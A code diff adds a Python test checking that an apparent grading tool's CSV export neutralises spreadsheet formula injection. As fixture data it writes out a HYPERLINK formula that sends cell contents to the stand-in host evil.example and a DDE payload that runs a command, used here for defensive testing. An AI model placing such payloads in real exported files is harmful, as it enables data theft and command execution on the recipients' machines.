@@ -78,3 +78,16 @@ def test_stale_job_results_and_old_template_folders_are_dropped(tmp_path):
 def test_results_round_trip_through_json():
     for result in RESULTS:
         assert SubmissionResult.from_json(result.to_json()) == result
+
+
+def test_no_csv_cell_starts_a_spreadsheet_formula(tmp_path):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    results = [SubmissionResult("-cy", "a1", "graded", 1.0, 2.0, [CellResult("test_f", 1.0, 2.0, hostile),
+                                                                  CellResult("test_g", 0.0, 0.0, "@SUM(A1)")],
+                                [Flag("edited_metadata", "+cmd|' /C calc'!A0")])]
+    writer.write_csvs(results, tmp_path)
+    for name in ("grades.csv", "cells.csv", "integrity.csv"):
+        for row in rows(tmp_path / name)[1:]:
+            assert not any(v.lstrip().startswith(("=", "+", "@")) for v in row), (name, row)
+    assert rows(tmp_path / "cells.csv")[1][-1] == "'" + hostile  # still readable, as text
+    assert writer.spreadsheet_safe("-0.5") == "-0.5"
